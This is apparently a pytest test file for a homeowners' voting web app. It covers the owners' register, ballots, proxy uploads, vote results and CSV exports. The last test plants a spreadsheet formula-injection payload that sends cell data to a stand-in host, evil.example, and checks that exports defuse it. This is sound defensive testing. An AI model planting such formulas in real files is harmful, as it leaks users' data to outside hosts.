"""The owners' vote pages: what they show (their context) and what their forms do."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlmodel import select

from consult import clock
from consult.communities.models import Home
from consult.owners import services
from consult.owners.models import OwnerBallot, OwnerMatter
from tests import factories
from tests.conftest import csrf_from, post_form
from tests.owners.conftest import HOMES


def open_matter(world, **kwargs) -> OwnerMatter:
    """A matter open right now (pages use the real clock)."""
    now = clock.utcnow()
    return world.matter(opens=now - timedelta(hours=1), closes=now + timedelta(days=3), now=now, **kwargs)


def close(db, matter) -> None:
    now = clock.utcnow()
    matter.opens_at, matter.closes_at = now - timedelta(days=3), now - timedelta(minutes=1)
    db.add(matter)
    db.flush()


def test_register_page_shows_totals_and_homes(client, world):
    factories.sign_in(client, world.moderator.login)
    page = client.get(f"/estates/{world.estate.id}/owners/register")
    assert page.status_code == 200
    totals = page.context["register"].totals
    assert (totals.owners_total, totals.area_total_cents) == (4, 60000)
    assert 'id="area-total">600.00 m²' in page.text
    assert 'id="owners-total">4<' in page.text
    assert [h.code for h in page.context["register"].homes][:2] == ["1-101", "1-102"]


def test_register_page_is_for_register_managers(client, world):
    assert client.get(f"/estates/{world.estate.id}/owners/register",
                      follow_redirects=False).status_code == 303  # to sign in
    factories.sign_in(client, world.li.login)
    assert client.get(f"/estates/{world.estate.id}/owners/register").status_code == 403


def test_import_shows_every_error_translated_and_changes_nothing(client, world, db):
    factories.sign_in(client, world.moderator.login)
    page = f"/estates/{world.estate.id}/owners/register"
    bad = "home_id,building,room,area_m2,owners,developer_held\n1,1,1,1.001,a,0\n2,2,2,5,,0\n"
    response = client.post(page, data={"csrf_token": csrf_from(client.get(page).text)},
                           files={"file": ("homes.csv", bad.encode(), "text/csv")})
    assert response.status_code == 422
    shown = response.context["import_errors"]
    assert len(shown) == 2
    assert "第 2 行：面积“1.001”的小数超过两位。" in response.text
    assert "第 3 行：" in response.text
    assert len(db.exec(select(Home).where(Home.estate_id == world.estate.id)).all()) == 7


def test_import_replaces_the_register(client, world, db):
    factories.sign_in(client, world.moderator.login)
    page = f"/estates/{world.estate.id}/owners/register"
    text = HOMES + "1-108,1,108,80.00,sun,0\n"
    response = client.post(page, data={"csrf_token": csrf_from(client.get(page).text)},
                           files={"file": ("homes.csv", text.encode(), "text/csv")},
                           follow_redirects=False)
    assert response.status_code == 303
    after = client.get(page)
    assert after.context["register"].totals.owners_total == 5
    assert "新增 1" in after.text  # the flash message


def test_edit_home_and_link_an_owner(client, world, db, settings):
    factories.sign_in(client, world.moderator.login)
    home = db.exec(select(Home).where(Home.code == "1-107")).one()
    page = f"/owners/homes/{home.id}"
    response = post_form(client, page, page, {"building": "1", "room": "107", "area": "abc",
                                              "owners": "qian"})
    assert response.status_code == 422
    assert "area" in response.context["errors"]
    response = post_form(client, page, page, {"building": "1", "room": "107", "area": "99.99",
                                              "owners": "qian"})
    assert response.status_code == 303
    db.expire_all()
    assert db.get(Home, home.id).area_hundredths == 9999
    person = factories.user(db, settings, name="钱")
    owner = world.owner_row("qian")
    response = post_form(client, page, f"/owners/owner-records/{owner.id}/link", {"phone": "139 0000"})
    assert response.status_code == 422 and owner.id in response.context["link_errors"]
    response = post_form(client, page, f"/owners/owner-records/{owner.id}/link", {"phone": person.phone})
    assert response.status_code == 303
    shown = client.get(page).context
    assert shown["owners"][0][1] is None  # asked, not linked: the owner confirms it
    [(link, account)] = shown["pending"]
    assert account.id == person.id
    factories.sign_in(client, person.login)
    mine = client.get("/owners/links")
    assert link.code in mine.text
    response = post_form(client, "/owners/links", f"/owners/my-links/{link.id}/confirm", {})
    assert response.status_code == 303
    factories.sign_in(client, world.moderator.login)
    assert client.get(page).context["owners"][0][1].id == person.id


def test_create_matter_form(client, world, db):
    factories.sign_in(client, world.moderator.login)
    page = f"/estates/{world.estate.id}/owners/matters/new"
    action = f"/estates/{world.estate.id}/owners/matters"
    response = post_form(client, page, action, {"title": "", "kind": "ordinary",
                                                "opens_at": "2030-01-01T09:00", "closes_at": "bad"})
    assert response.status_code == 422
    assert set(response.context["errors"]) == {"title", "closes_at"}
    response = post_form(client, page, action, {
        "title": "续聘物业服务企业", "kind": "ordinary", "description": "第一行\n第二行",
        "opens_at": "2030-01-01T09:00", "closes_at": "2030-01-15T17:00", "paper_double_key": "1"})
    assert response.status_code == 303
    matter = db.exec(select(OwnerMatter).where(OwnerMatter.title == "续聘物业服务企业")).one()
    assert matter.paper_double_key and matter.opens_at.hour == 1
    shown = client.get(response.headers["location"])
    assert shown.context["state"] == "scheduled"


def test_owner_votes_online_once(client, world, db):
    matter = open_matter(world)
    factories.sign_in(client, world.li.login)
    page = f"/owners/matters/{matter.id}"
    shown = client.get(page)
    [voice] = shown.context["voices"]
    assert [h.home_id for h in voice.homes] == ["1-101", "1-102"]
    assert "200.00" in shown.text and 'name="choice" value="agree"' in shown.text
    response = post_form(client, page, f"{page}/vote", {"owner": voice.digest, "choice": "disagree"})
    assert response.status_code == 303
    after = client.get(page)
    assert after.context["voices"][0].ballot.choice == "disagree"
    assert 'name="choice"' not in after.text  # no second form
    assert "反对" in after.text
    again = client.post(f"{page}/vote", data={"csrf_token": csrf_from(after.text),
                                               "owner": voice.digest, "choice": "agree"})
    assert again.status_code == 409
    assert len(db.exec(select(OwnerBallot).where(OwnerBallot.matter_id == matter.id)).all()) == 1


def test_turnout_is_shown_to_owners_but_not_to_the_public(client, world):
    matter = open_matter(world)
    world.vote(world.li, matter, now=clock.utcnow())
    page = f"/owners/matters/{matter.id}"
    assert client.get(page).context["turnout"] is None
    factories.sign_in(client, world.zhao.login)
    turnout = client.get(page).context["turnout"]
    assert (turnout.owners_voted, str(turnout.area_voted)) == (1, "200.00")


def test_staff_enter_paper_and_proxy_ballots_and_void(client, world, db):
    matter = open_matter(world)
    factories.sign_in(client, world.moderator.login)
    page = f"/owners/matters/{matter.id}/ballots"
    response = post_form(client, page, f"/owners/matters/{matter.id}/paper",
                         {"serial": "0001", "home": "1-105", "choice": "agree"})
    assert response.status_code == 303
    response = post_form(client, page, f"/owners/matters/{matter.id}/paper",
                         {"serial": "0002", "home": "1-106", "choice": "agree"})
    assert response.status_code == 409  # the developer has voted already
    token = csrf_from(client.get(page).text)
    response = client.post(f"/owners/matters/{matter.id}/proxy",
                           data={"csrf_token": token, "home": "1-107", "choice": "abstain",
                                 "holder": "钱小明"},
                           files={"file": ("委托书.pdf", b"%PDF-1.7 proxy", "application/pdf")},
                           follow_redirects=False)
    assert response.status_code == 303
    listing = client.get(page).context["listing"]
    assert listing.total == 2
    proxy = next(b for b in listing.ballots if b.channel == "proxy")
    scan = client.get(f"/owners/ballots/{proxy.id}/scan")
    assert scan.content == b"%PDF-1.7 proxy"
    response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": "委托书未签名"})
    assert response.status_code == 403  # who entered a ballot does not void it
    factories.sign_in(client, world.moderator2.login)
    response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": ""})
    assert response.status_code == 422 and proxy.id in response.context["row_errors"]
    response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": "委托书未签名"})
    assert response.status_code == 303
    assert db.get(OwnerBallot, proxy.id).active is None


def test_notice_has_a_qr_code_of_the_matter(client, world):
    matter = open_matter(world)
    page = client.get(f"/owners/matters/{matter.id}/notice")
    assert page.status_code == 200
    assert page.context["link"] == f"http://testserver/owners/matters/{matter.id}"
    assert "<svg" in page.text and 'class="qr"' in page.text
    assert "style=" not in page.text.split("<svg", 1)[1].split("</svg>", 1)[0]


def test_attachments_are_published_with_the_matter(client, world):
    matter = open_matter(world)
    factories.sign_in(client, world.moderator.login)
    page = f"/owners/matters/{matter.id}"
    token = csrf_from(client.get(page).text)
    bad = client.post(f"{page}/attachments", data={"csrf_token": token},
                      files={"file": ("x.html", b"<script>", "text/html")})
    assert bad.status_code == 422 and "file" in bad.context["errors"]
    ok = client.post(f"{page}/attachments", data={"csrf_token": token},
                     files={"file": ("方案.pdf", b"%PDF-1.4 plan", "application/pdf")},
                     follow_redirects=False)
    assert ok.status_code == 303
    [item] = client.get(page).context["attachments"]
    assert item.filename == "方案.pdf"
    client.cookies.clear()
    download = client.get(f"/owners/attachments/{item.id}")
    assert download.content == b"%PDF-1.4 plan"
    assert download.headers["content-type"] == "application/pdf"


def test_result_page_after_close(client, world, db):
    matter = open_matter(world, kind="major")
    now = clock.utcnow()
    world.vote(world.li, matter, now=now)
    world.vote(world.wang, matter, now=now)
    services.enter_paper_ballot(db, world.staff, matter.id, serial="1", home="1-105",
                                choice="agree", now=now)
    assert client.get(f"/owners/matters/{matter.id}/result").status_code == 409
    close(db, matter)
    page = client.get(f"/owners/matters/{matter.id}/result")
    assert page.status_code == 200
    outcome = page.context["outcome"]
    assert (outcome.owners_voted, outcome.owners_agree, str(outcome.area_agree)) == (3, 3, "500.00")
    assert outcome.quorum_met and outcome.passed
    verdict = page.text.split('id="verdict">', 1)[1].split("</p>", 1)[0].strip()
    assert verdict == "表决通过。"
    assert "83.33%" in page.text  # 500 of 600 m² voted


@pytest.mark.parametrize("kind, passed", [("maintenance_fund_use", True), ("maintenance_fund_raise", False)])
def test_using_the_maintenance_fund_is_an_ordinary_matter(client, world, db, kind, passed):
    """Civil Code art. 278: using the fund needs more than half, raising it three quarters."""
    matter = open_matter(world, kind=kind)
    now = clock.utcnow()
    world.vote(world.li, matter, now=now)  # 200 m²
    world.vote(world.wang, matter, now=now)  # 100 m²
    services.enter_paper_ballot(db, world.staff, matter.id, serial="1", home="1-105",
                                choice="disagree", now=now)  # the developer, 200 m²
    close(db, matter)
    page = client.get(f"/owners/matters/{matter.id}/result")
    outcome = page.context["outcome"]
    assert (outcome.owners_voted, outcome.owners_agree, str(outcome.area_agree)) == (3, 2, "300.00")
    assert outcome.passed is passed  # 2/3 of the voting owners, 60% of the voting area
    verdict = page.text.split('id="verdict">', 1)[1].split("</p>", 1)[0].strip()
    assert verdict == ("表决通过。" if passed else "未获通过：同意的面积或人数未达到规定比例。")
    legal_name = {"maintenance_fund_use": "使用建筑物及其附属设施的维修资金",
                  "maintenance_fund_raise": "筹集建筑物及其附属设施的维修资金"}[kind]
    assert legal_name in page.text
    assert ("均超过参与表决的半数" if passed else "均占参与表决的四分之三以上") in page.text


def test_downloaded_exports_recount_to_the_page_result(client, world, db, tmp_path, capsys):
    """The CSVs a committee downloads, fed to the command, print the page's figures."""
    import json

    from consult.owners.cli import main, outcome_json

    matter = open_matter(world, kind="rebuild")
    now = clock.utcnow()
    world.vote(world.li, matter, "agree", now=now)
    world.vote(world.zhao, matter, "disagree", now=now)
    services.enter_paper_ballot(db, world.staff, matter.id, serial="7", home="1-106",
                                choice="abstain", now=now)
    close(db, matter)
    factories.sign_in(client, world.moderator.login)
    files = {}
    for name in ("homes.csv", "ballots.csv"):
        response = client.get(f"/owners/matters/{matter.id}/{name}")
        assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
        assert response.content.startswith("\ufeff".encode())  # Excel opens it as UTF-8
        files[name] = tmp_path / name
        files[name].write_bytes(response.content)
    page = client.get(f"/owners/matters/{matter.id}/result")
    assert main(["tally", "--homes", str(files["homes.csv"]), "--ballots", str(files["ballots.csv"]),
                 "--matter", matter.kind]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == outcome_json(page.context["outcome"])
    assert (printed["owners_voted"], printed["area_voted"], printed["passed"]) == (3, "500.00", False)


def test_homes_csv_export_never_hands_a_spreadsheet_a_formula(client, world, db):
    """An owner's name typed as a formula comes out as text in both homes.csv exports."""
    import csv

    home = world.owner_row("qian").home_id
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    services.update_home(db, world.staff, home, building="1", room="107", area="100.00",
                         owners=f"{evil};@SUM(1+1)", developer_held=False, now=clock.utcnow())
    matter = open_matter(world)
    factories.sign_in(client, world.moderator.login)
    for url in (f"/estates/{world.estate.id}/owners/homes.csv", f"/owners/matters/{matter.id}/homes.csv"):
        response = client.get(url)
        assert response.status_code == 200
        rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert any(c.startswith("'=HYPERLINK") for c in cells)
